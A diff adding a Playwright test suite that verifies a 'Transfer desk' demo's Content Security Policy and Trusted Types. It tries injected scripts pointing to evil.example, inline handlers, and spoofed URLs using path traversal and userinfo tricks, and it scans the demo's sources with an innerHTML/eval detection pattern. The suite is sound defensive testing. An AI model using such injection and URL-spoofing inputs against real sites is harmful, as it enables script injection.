@@ -1,0 +1,171 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { test as base, type Page } from '@playwright/test';
+import { expect, test } from './desk.js';
+import { tour } from './tour.js';
+
+const PAGES = ['/', '/live.html'] as const;
+
+/** Notes from the first moment on what the browser's policy was asked to forbid. */
+async function watchPolicy(page: Page): Promise<void> {
+  await page.addInitScript(() => {
+    const reports: string[] = [];
+    Object.assign(window, { reports });
+    document.addEventListener('securitypolicyviolation', (report) => {
+      const { effectiveDirective, blockedURI, sample, sourceFile } = report;
+      reports.push([effectiveDirective, blockedURI, sample, sourceFile].join(' '));
+    });
+  });
+}
+
+function readReports(page: Page): Promise<readonly string[]> {
+  return page.evaluate(() => (window as unknown as { reports: readonly string[] }).reports);
+}
+
+test.describe('with a clipboard', () => {
+  test.use({ permissions: ['clipboard-read', 'clipboard-write'] });
+
+  test('no feature of the page asks for what its policy forbids', async ({ page, desk }) => {
+    test.setTimeout(120_000);
+    await watchPolicy(page);
+    await page.reload();
+    await expect(desk.caller('Erin')).toBeVisible();
+    await tour(desk, async () => {});
+    await page.keyboard.press('Escape');
+    await page.getByRole('button', { name: 'Show: Bob' }).click();
+    for (const name of ['Copy all', 'Download all', 'Copy code', 'Copy all shown', 'Pause', 'Clear']) await desk.press(name); // prettier-ignore
+    await page.getByLabel('Theme').selectOption('dark');
+    await page.getByRole('link', { name: 'Network drops, and is back' }).click();
+    await expect(desk.caller('Alice')).toBeChecked();
+    await desk.transfer();
+    await expect(desk.record).toContainText('Handed off', { timeout: 15_000 });
+    await desk.byHand('End the meeting');
+    await expect(desk.check('joined')).toBeVisible();
+    expect(await readReports(page)).toEqual([]);
+  });
+});
+
+test('where the browser does not copy, the text is handed out in a dialog, within the policy', async ({
+  page,
+  desk,
+}) => {
+  await watchPolicy(page);
+  await page.addInitScript(() => Object.defineProperty(navigator, 'clipboard', { value: undefined })); // prettier-ignore
+  await page.reload();
+  await expect(desk.caller('Erin')).toBeVisible();
+  await desk.press('Copy code');
+  const dialog = page.getByRole('dialog', { name: 'This browser did not let the page copy' });
+  await expect(dialog.getByRole('textbox')).toHaveValue(/TransferController\.attach/);
+  await dialog.getByRole('button', { name: 'Close' }).click();
+  await expect(dialog).toHaveCount(0);
+  expect(await readReports(page)).toEqual([]);
+});
+
+for (const path of PAGES) {
+  base(`nothing becomes a script on ${path} that the page did not bring`, async ({ page }) => {
+    await watchPolicy(page);
+    await page.goto(path);
+    await expect(page.getByRole('heading', { name: 'Transfer desk' })).toBeVisible();
+    const says = await page.evaluate(async () => {
+      const attempts: Readonly<Record<string, () => unknown>> = {
+        'script.src': () => (document.createElement('script').src = 'https://evil.example/x.js'),
+        'script of a data: address': () => (document.createElement('script').src = 'data:text/javascript,1'), // prettier-ignore
+        'script.text': () => (document.createElement('script').text = 'window.hacked = 1'),
+        innerHTML: () => (document.body.innerHTML = '<b>x</b>'),
+        outerHTML: () => (document.body.outerHTML = '<b>x</b>'),
+        insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
+        'document.write': () => document.write('<b>x</b>'),
+        DOMParser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
+        srcdoc: () => (document.createElement('iframe').srcdoc = '<b>x</b>'),
+        'an event handler': () => document.createElement('b').setAttribute('onclick', 'window.hacked = 1'), // prettier-ignore
+        'a policy of its own': () => (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('mine', {}), // prettier-ignore
+        'a second default policy': () => (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('default', {}), // prettier-ignore
+      };
+      const outcome: Record<string, string> = {};
+      for (const [name, attempt] of Object.entries(attempts)) {
+        try {
+          attempt();
+          outcome[name] = 'went through';
+        } catch (error) {
+          outcome[name] = (error as Error).name;
+        }
+      }
+      const inline = document.createElement('style');
+      inline.textContent = 'body { display: none }';
+      const frame = Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }); // prettier-ignore
+      document.head.append(inline);
+      document.body.append(frame);
+      await new Promise((resolve) => setTimeout(resolve, 100));
+      const { display } = getComputedStyle(document.body);
+      return { outcome, display, hacked: (window as { hacked?: unknown }).hacked };
+    });
+    expect(Object.entries(says.outcome).filter(([, end]) => end !== 'TypeError')).toEqual([]);
+    expect(says).toMatchObject({ display: 'block', hacked: undefined });
+    const directives = (await readReports(page)).map((report) => report.split(' ')[0]);
+    expect(new Set(directives)).toEqual(new Set(['require-trusted-types-for', 'trusted-types', 'style-src-elem', 'frame-src'])); // prettier-ignore
+  });
+
+  base(`${path} as it is served holds no script and no style of its own`, async ({ request }) => {
+    const html = await (await request.get(path)).text();
+    const [policy, ...others] = html.match(/<meta\s+http-equiv="Content-Security-Policy"/g) ?? [];
+    expect(policy).toBeDefined();
+    expect(others).toEqual([]);
+    expect(html.indexOf(policy ?? '')).toBeLessThan(html.search(/<(script|link|style)\b/));
+    expect(html.match(/<script(?![^>]*\ssrc=)[^>]*>/g)).toBeNull();
+    expect(html.match(/<script[^>]*>[^<]+<\/script>/g)).toBeNull();
+    expect(html.match(/<style|\sstyle=|\son\w+=|javascript:/gi)).toBeNull();
+    expect(html).not.toContain('unsafe-');
+  });
+}
+
+/** As daily-js writes them in its bundle, for the version that is installed. */
+function findCallMachines(): readonly string[] {
+  const folder = new URL('../node_modules/@daily-co/daily-js/', import.meta.url);
+  const { version } = JSON.parse(readFileSync(new URL('package.json', folder), 'utf8')) as { version: string }; // prettier-ignore
+  return ['daily.co', 'dailywebrtc.com', 'dailywebrtc.net'].map((domain) => `https://c.${domain}/call-machine/versioned/${version}/static/call-machine-object-bundle.js`); // prettier-ignore
+}
+
+base('a real room lets in the call machine of Daily, and no other address', async ({ page }) => {
+  await page.goto('/live.html');
+  await expect(page.getByRole('heading', { name: 'Transfer desk' })).toBeVisible();
+  const machines = findCallMachines();
+  const [machine = ''] = machines;
+  const bundle = 'static/call-machine-object-bundle.js';
+  const others = [
+    machine.replace('https:', 'http:'),
+    machine.replace('c.daily.co', 'c.daily.co.evil.example'),
+    machine.replace('c.daily.co', 'c.daily.co@evil.example'),
+    machine.replace('c.daily.co', 'evil.example'),
+    machine.replace('c.daily.co', 'c.daily.co:8443'),
+    machine.replace('/versioned/', '/'),
+    machine.replace(/\d+\.\d+\.\d+/, '0.1.0'),
+    machine.replace(bundle, `../../evil/${bundle}`),
+    machine.replace(bundle, `..%2f..%2fevil/${bundle}`),
+    machine.replace(bundle, `x/${bundle}`),
+    `${machine}?callback=evil`,
+    `${machine}#x`,
+    ` ${machine}`,
+    `${machine}\n`,
+    `https://c.daily.co/evil.js?${machine}`,
+    `https://c.daily.co/call-machine/versioned/../${bundle}`,
+    `data:text/javascript,${machine}`,
+    'call-machine-object-bundle.js',
+    '',
+  ];
+  const letIn = await page.evaluate((urls) => urls.filter((url) => {
+    try {
+      document.createElement('script').src = url;
+      return true;
+    } catch {
+      return false;
+    }
+  }), [...machines, ...others]); // prettier-ignore
+  expect(letIn).toEqual(machines);
+});
+
+base('no style attribute and no markup is written by the sources of the page', () => {
+  const folder = new URL('../demo/', import.meta.url);
+  const files = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((file) => file.endsWith('.ts')); // prettier-ignore
+  const guilty = files.filter((file) => /innerHTML|outerHTML|insertAdjacentHTML|document\.write|\bstyle: |'style'|\beval\(|new Function/.test(readFileSync(new URL(file, folder), 'utf8'))); // prettier-ignore
+  expect(files.length).toBeGreaterThan(20);
+  expect(guilty).toEqual([]);
+});
